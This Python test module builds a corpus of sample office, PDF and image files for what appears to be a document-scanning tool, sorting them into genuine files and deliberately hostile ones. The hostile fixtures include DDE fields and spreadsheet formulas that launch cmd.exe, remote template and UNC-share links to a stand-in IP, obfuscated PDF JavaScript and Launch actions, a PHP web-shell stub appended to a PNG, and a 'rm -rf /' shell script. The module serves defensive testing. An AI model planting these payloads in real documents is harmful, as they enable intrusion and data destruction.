"""Documents that are only kept, as 根拠資料: genuine ones of every kind, and those of which each acts, hides or pretends.

Made anew for every run; nothing dangerous lies in the project.
"""

from __future__ import annotations

import io
import struct
import zlib
from collections.abc import Callable, Mapping
from pathlib import Path

import xlsxwriter

from tests.corpus.pack import HEAD, OFFICE, Parts, base, ole, pack, parts_of

GENUINE: dict[str, Callable[[], bytes]] = {}
BAD: dict[str, Callable[[], bytes]] = {}

PHOTO = Path(__file__).resolve().parents[2] / "docs" / "screens" / "agenda-390.jpg"
RELATIONS = "http://schemas.openxmlformats.org/package/2006/relationships"
TYPE = "application/vnd.openxmlformats-officedocument."
WORD, SLIDES = "word/document.xml", "ppt/presentation.xml"
MAIN = {WORD: f"{TYPE}wordprocessingml.document.main+xml", SLIDES: f"{TYPE}presentationml.presentation.main+xml"}


def rels(*lines: tuple[str, str, str]) -> bytes:
    """A part of relationships: (kind, target, mode)."""
    each = "".join(
        f'<Relationship Id="r{n}" Type="{kind if ":" in kind else f"{OFFICE}/{kind}"}" Target="{target}"{mode and f" TargetMode={mode!r}"}/>'
        for n, (kind, target, mode) in enumerate(lines)
    ).replace("'", '"')
    return HEAD + f'<Relationships xmlns="{RELATIONS}">{each}</Relationships>'.encode()


def office(main: str, body: str, more: Mapping[str, bytes] | None = None, *, types: str = "") -> bytes:
    """A document of Word or PowerPoint around a body, and parts beside it."""
    defaults = "".join(
        f'<Default Extension="{ending}" ContentType="{kind}"/>'
        for ending, kind in (("rels", "application/vnd.openxmlformats-package.relationships+xml"), ("xml", "application/xml"),
                             ("png", "image/png"), ("xlsx", f"{TYPE}spreadsheetml.sheet"))
    )  # fmt: skip
    declared = f'<Override PartName="/{main}" ContentType="{MAIN[main]}"/>{types}'
    parts: Parts = {
        "[Content_Types].xml": HEAD + f"<Types>{defaults}{declared}</Types>".encode(),
        "_rels/.rels": rels(("officeDocument", main, "")),
        main: HEAD + f'<w:document xmlns:w="w" xmlns:r="r" xmlns:p="p" xmlns:a="a">{body}</w:document>'.encode(),
        **(more or {}),
    }
    return pack(parts)


def beside(main: str) -> str:
    """The part of a main part's relationships."""
    folder, _, file = main.rpartition("/")
    return f"{folder}/_rels/{file}.rels"


def field(*codes: str) -> str:
    """A field of Word whose code stands in several runs; `{` begins one within."""
    marks = {"{": "begin", "}": "end", "|": "separate"}
    runs = (
        f'<w:r><w:fldChar w:fldCharType="{marks[one]}"/></w:r>' if one in marks else f"<w:r><w:instrText>{one}</w:instrText></w:r>"
        for one in ("{", *codes, "}")
    )  # fmt: skip
    return f"<w:body><w:p>{''.join(runs)}</w:p></w:body>"


def linked(main: str, kind: str, target: str, mode: str = "External") -> bytes:
    """A document with one relationship of its main part."""
    return office(main, "<w:body/>", {beside(main): rels((kind, target, mode))})


def with_parts(main: str, more: Mapping[str, bytes]) -> bytes:
    """A document with parts that nothing declares."""
    return office(main, "<w:body/>", more)


def chunk(name: bytes, data: bytes) -> bytes:
    """One chunk of a PNG."""
    return struct.pack(">I", len(data)) + name + data + struct.pack(">I", zlib.crc32(name + data))


def png(*more: bytes, end: bytes = b"") -> bytes:
    """A picture of one grey dot."""
    head = chunk(b"IHDR", struct.pack(">IIBBBBB", 1, 1, 8, 0, 0, 0, 0))
    return (
        b"\x89PNG\r\n\x1a\n"
        + head
        + b"".join(more)
        + chunk(b"IDAT", zlib.compress(b"\0\0"))
        + chunk(b"IEND", b"")
        + end
    )


def pdf(*objects: bytes, end: bytes = b"") -> bytes:
    """A PDF around objects."""
    each = b"".join(
        b"%d 0 obj\n%s\nendobj\n" % (n, one) for n, one in enumerate((b"<</Type/Catalog>>", *objects), start=1)
    )
    return b"%PDF-1.7\n" + each + b"trailer<</Root 1 0 R>>\nstartxref\n9\n%%EOF\n" + end


def store(inside: bytes, *, about: bytes = b"/Type/ObjStm/N 1/First 5/Filter/FlateDecode", cut: int = 0) -> bytes:
    """A compressed store of objects."""
    data = zlib.compress(b"7 0  " + inside)
    data = data[: len(data) - cut]
    return b"<<%s/Length %d>>\nstream\n%s\nendstream" % (about, len(data), data)


def book_with_everything() -> bytes:
    """What an office attaches: sums, a chart, a picture, a link, a list to choose from."""
    out = io.BytesIO()
    book = xlsxwriter.Workbook(out, {"in_memory": True})
    sheet = book.add_worksheet("集計")
    sheet.write_column(0, 0, [1, 2, 3])
    sheet.write_formula(3, 0, "=SUM(A1:A3)", value=6)
    sheet.write_formula(4, 0, '=IF(A1>0,"あ|い!","")', value="あ|い!")
    sheet.write_url(5, 0, "https://www.example.lg.jp/")
    sheet.write_formula(6, 0, '=HYPERLINK("https://www.example.lg.jp/","市")', value="市")
    sheet.data_validation(7, 0, 7, 0, {"validate": "list", "source": ["はい", "いいえ"]})
    sheet.insert_image(8, 0, "a.png", {"image_data": io.BytesIO(png())})
    chart = book.add_chart({"type": "column"})
    chart.add_series({"values": "=集計!$A$1:$A$3"})
    sheet.insert_chart(9, 3, chart)
    book.close()
    return out.getvalue()


def with_chart(main: str, book: bytes) -> bytes:
    """A document with a chart and the workbook behind it."""
    folder = main.partition("/")[0]
    chart = HEAD + b'<c:chartSpace xmlns:c="c"><c:f>Sheet1!$A$1:$A$3</c:f></c:chartSpace>'
    return office(
        main, "<w:body/>",
        {
            beside(main): rels(("chart", "charts/chart1.xml", "")),
            f"{folder}/charts/chart1.xml": chart,
            f"{folder}/charts/_rels/chart1.xml.rels": rels(("package", "../embeddings/Microsoft_Excel_Sheet1.xlsx", "")),
            f"{folder}/embeddings/Microsoft_Excel_Sheet1.xlsx": book,
        },
    )  # fmt: skip


# --- genuine ------------------------------------------------------------------------------------------------------

GENUINE |= {
    "xlsx": book_with_everything,
    "docx/link": lambda: linked(WORD, "hyperlink", "https://www.example.lg.jp/"),
    "docx/page-number": lambda: office(WORD, field("PAGE \\* MERGEFORMAT")),
    "docx/field-in-field": lambda: office(WORD, field("IF ", "{", "PAGE", "}", " = 1 x y")),
    "docx/table-of-contents": lambda: office(WORD, field("TOC \\o", "|", "{", "PAGEREF _Toc1", "}")),
    "docx/sum": lambda: office(WORD, field("=SUM(ABOVE)")),
    "docx/chart": lambda: with_chart(WORD, book_with_everything()),
    "pptx": lambda: office(SLIDES, '<a:hlinkClick action="ppaction://hlinksldjump"/>', {"ppt/media/image1.png": png()}),
    "pptx/chart": lambda: with_chart(SLIDES, pack(base())),
    "png": png,
    "png/words": lambda: png(chunk(b"tEXt", b"Software\0Paint")),
    "jpeg": PHOTO.read_bytes,
    "jpeg/second-picture": lambda: PHOTO.read_bytes() + b"\0" * 40 + PHOTO.read_bytes(),
    "pdf": pdf,
    "pdf/opens-at-a-page": lambda: pdf(b"<</OpenAction [1 0 R /FitH 0]/AA<</O 1 0 R>>>>"),
    "pdf/store": lambda: pdf(store(b"<</Type/Page>>")),
    "pdf/link": lambda: pdf(b"<</S/URI/URI(https://www.example.lg.jp/)>>"),
    "pdf/name-like-one": lambda: pdf(b"<</LaunchDate(1)/JavaScripts 1>>"),
    "pdf/compressed-text": lambda: pdf(b"<</Filter/FlateDecode>>\nstream\n" + zlib.compress(b"BT (/JavaScript) Tj ET") + b"\nendstream"),
}  # fmt: skip

# --- bad ----------------------------------------------------------------------------------------------------------

VBA = ole("VBA", "_VBA_PROJECT", "dir")
BAD |= {
    "docx/template-outside": lambda: linked(WORD, "attachedTemplate", "http://203.0.113.1/x.dotm"),
    "docx/template-of-settings": lambda: with_parts(
        WORD, {"word/settings.xml": HEAD + b"<s/>", "word/_rels/settings.xml.rels": rels(("attachedTemplate", "file:///x.dotm", "External"))}
    ),
    "docx/picture-outside": lambda: linked(WORD, "image", "http://203.0.113.1/x.png"),
    "docx/object-outside": lambda: linked(WORD, "oleObject", "file:///x.xlsx"),
    "docx/frame": lambda: linked(WORD, "frame", "http://203.0.113.1/x.html"),
    "docx/other-document": lambda: linked(WORD, "aFChunk", "afchunk.mht", ""),
    "docx/link-file": lambda: linked(WORD, "hyperlink", "file:///C:/Windows/System32/calc.exe"),
    "docx/link-share": lambda: linked(WORD, "hyperlink", "\\\\203.0.113.1\\x"),
    "docx/vba": lambda: with_parts(WORD, {"word/vbaProject.bin": VBA}),
    "docx/vba-by-another-name": lambda: with_parts(WORD, {"word/printer1.bin": VBA}),
    "docx/vba-in-a-picture": lambda: with_parts(WORD, {"word/media/image1.png": VBA}),
    "docx/vba-declared": lambda: office(
        WORD, "<w:body/>", {"word/a.bin": b"x"}, types='<Override PartName="/word/a.bin" ContentType="application/vnd.ms-office.vbaProject"/>'
    ),
    "docx/embedded": lambda: with_parts(WORD, {"word/embeddings/oleObject1.bin": ole("Package")}),
    "docx/embedded-book": lambda: office(
        WORD, "<w:body/>", {beside(WORD): rels(("package", "embeddings/a.xlsx", "")), "word/embeddings/a.xlsx": pack(base())}
    ),
    "docx/object": lambda: office(WORD, '<w:object><o:OLEObject xmlns:o="o" Type="Embed" ProgID="Package"/></w:object>'),
    "docx/activex": lambda: with_parts(WORD, {"word/activeX/activeX1.xml": b"<a/>"}),
    "docx/program": lambda: with_parts(WORD, {"word/media/image1.png": b"MZ\x90\x00" + bytes(100)}),
    "docx/program-for-unix": lambda: with_parts(WORD, {"word/a.dat": b"\x7fELF\x02\x01" + bytes(100)}),
    "docx/archive": lambda: with_parts(WORD, {"word/a.dat": pack(base())}),
    "docx/doctype": lambda: with_parts(WORD, {"customXml/item1.xml": b'<!DOCTYPE x [<!ENTITY a "b">]><x>&a;</x>'}),
    "docx/dde": lambda: office(WORD, field("DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe /k")),
    "docx/dde-in-runs": lambda: office(WORD, field("DD", "EAU", "TO cmd")),
    "docx/dde-simple": lambda: office(WORD, '<w:fldSimple w:instr=" dde cmd x"/>'),
    "docx/dde-made-up": lambda: office(WORD, field("{", "QUOTE 68 68 69", "}", " cmd")),
    "docx/dde-completed": lambda: office(WORD, field("D", "{", "QUOTE 68 69", "}", " cmd")),
    "docx/include": lambda: office(WORD, field("INCLUDETEXT file:///x")),
    "docx/picture-of-a-share": lambda: office(WORD, field('INCLUDEPICTURE "\\\\203.0.113.1\\x.png"')),
    "docx/chart-program": lambda: with_chart(WORD, b"MZ\x90\x00" + bytes(100)),
    "docx/chart-macro": lambda: with_chart(WORD, pack({**base(), "xl/vbaProject.bin": VBA})),
    "docx/chart-formula": lambda: with_chart(
        WORD, pack({**base(), "xl/worksheets/sheet9.xml": HEAD + b"<worksheet><f>cmd|'/c calc'!A0</f></worksheet>"})
    ),
    "docx/chart-in-chart": lambda: with_chart(WORD, with_chart(WORD, pack(base()))),
    "pptx/program-button": lambda: office(SLIDES, '<a:hlinkClick action="ppaction://program"/>'),
    "pptx/macro-button": lambda: office(SLIDES, '<a:hlinkClick action="ppaction://macro?name=x"/>'),
    "pptx/object": lambda: office(SLIDES, '<p:oleObj progId="Package"/>'),
    "pptx/film-outside": lambda: linked(SLIDES, "video", "http://203.0.113.1/x.mp4"),
    "xlsx/webservice": lambda: pack(
        {**parts_of(book_with_everything()), "xl/worksheets/sheet9.xml": HEAD + b'<worksheet><f>WEBSERVICE("http://203.0.113.1")</f></worksheet>'}
    ),
    "xlsx/dde-behind-quotes": lambda: pack(
        {**parts_of(book_with_everything()), "xl/worksheets/sheet9.xml": HEAD + b"<worksheet><f>cmd|'\"'!A0&amp;\"\"</f></worksheet>"}
    ),
    "zip": lambda: pack({"a.txt": b"a"}),
    "pdf/script": lambda: pdf(b"<</S/JavaScript/JS(app.alert(1))>>"),
    "pdf/script-by-numbers": lambda: pdf(b"<</S/J#61vaScript/J#53(app.alert(1))>>"),
    "pdf/launch-by-numbers": lambda: pdf(b"<</S/L#61unch/F(cmd.exe)>>"),
    "pdf/submit": lambda: pdf(b"<</S/SubmitForm/F(http://203.0.113.1/)>>"),
    "pdf/other-file": lambda: pdf(b"<</S/GoToR/F(\\\\\\\\203.0.113.1\\\\x.pdf)>>"),
    "pdf/embedded": lambda: pdf(b"<</Names<</EmbeddedFiles<<>>>>>>", b"<</Type/EmbeddedFile>>\nstream\nMZ\nendstream"),
    "pdf/form-with-scripts": lambda: pdf(b"<</AcroForm<</XFA 3 0 R>>>>"),
    "pdf/film": lambda: pdf(b"<</Subtype/RichMedia>>"),
    "pdf/locked": lambda: pdf(b"<</Encrypt 5 0 R>>"),
    "pdf/script-in-a-store": lambda: pdf(store(b"<</S/JavaScript/JS(1)>>")),
    "pdf/script-in-a-store-by-numbers": lambda: pdf(store(b"<</S/Java#53cript/JS(1)>>")),
    "pdf/script-in-a-store-without-its-name": lambda: pdf(store(b"<</S/JavaScript>>", about=b"/Filter/FlateDecode")),
    "pdf/script-in-a-store-cut-off": lambda: pdf(store(b"<</S/JavaScript/JS(1)>>" + bytes(range(256)) * 3, cut=9)),
    "pdf/store-packed-twice": lambda: pdf(store(b"<<>>", about=b"/Type/ObjStm/N 1/First 5/Filter[/FlateDecode/FlateDecode]")),
    "pdf/store-packed-otherwise": lambda: pdf(b"<</Type/Obj#53tm/N 1/First 5/Filter/LZWDecode>>\nstream\nabc\nendstream"),
    "pdf/store-with-differences": lambda: pdf(store(b"<<>>", about=b"/Type/ObjStm/N 1/First 5/Filter/FlateDecode/DecodeParms<</Predictor 12>>")),
    "pdf/store-that-grows": lambda: pdf(store(b" " * (70 * 1024 * 1024))),
    "pdf/archive-behind": lambda: pdf(end=pack({"a.exe": b"MZ"})),
    "pdf/cut-off": lambda: b"%PDF-1.7 cut",
    "png/head-and-end-alone": lambda: b"\x89PNG\r\n\x1a\n" + chunk(b"IEND", b""),
    "png/nothing-in-it": lambda: png().replace(b"IDAT", b"IDAX"),
    "png/script": lambda: png(chunk(b"tEXt", b"a\0<script>alert(1)</script>")),
    "png/program-of-a-server": lambda: png(end=b"<?php system(1); ?>"),
    "png/archive-behind": lambda: png(end=pack({"a.exe": b"MZ"})),
    "png/cut-off": lambda: png()[:-6],
    "jpeg/head-and-end-alone": lambda: b"\xff\xd8\xff\xd9",
    "jpeg/script": lambda: PHOTO.read_bytes()[:2] + b"\xff\xfe\x00\x1b<script>alert(1)</script>" + PHOTO.read_bytes()[2:],
    "jpeg/program-behind": lambda: PHOTO.read_bytes() + b"MZ\x90\x00\x03" + bytes(100),
    "jpeg/cut-off": lambda: PHOTO.read_bytes()[:5000],
    "svg": lambda: b"<svg xmlns='http://www.w3.org/2000/svg'><script>alert(1)</script></svg>",
    "html": lambda: b"<html><script>alert(1)</script></html>",
    "program": lambda: b"MZ\x90\x00" + bytes(200),
    "script": lambda: b"#!/bin/sh\nrm -rf /\n",
    "old-office": lambda: ole("WordDocument"),
    "film": lambda: b"\x00\x00\x00\x18ftypmp42" + bytes(200),
}  # fmt: skip
